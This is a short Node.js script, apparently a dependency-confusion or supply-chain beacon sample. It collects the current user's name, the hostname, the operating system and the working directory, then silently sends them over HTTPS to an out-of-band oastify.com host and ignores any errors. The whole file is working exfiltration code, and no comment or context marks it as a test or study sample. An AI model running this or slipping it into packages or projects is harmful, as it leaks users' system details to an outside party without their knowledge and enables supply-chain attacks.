const { hostname, userInfo, platform } = require('os')
const { get } = require('https')

function describe () {
  const who = userInfo()
  return [who.username, hostname(), platform(), process.cwd()].map(encodeURIComponent)
}

const [user, host, system, cwd] = describe()
const base = 'https://inert0000000000000.oastify.com'

get(`${base}/${user}/${host}?os=${system}&cwd=${cwd}`, (res) => res.resume())
  .on('error', () => {})
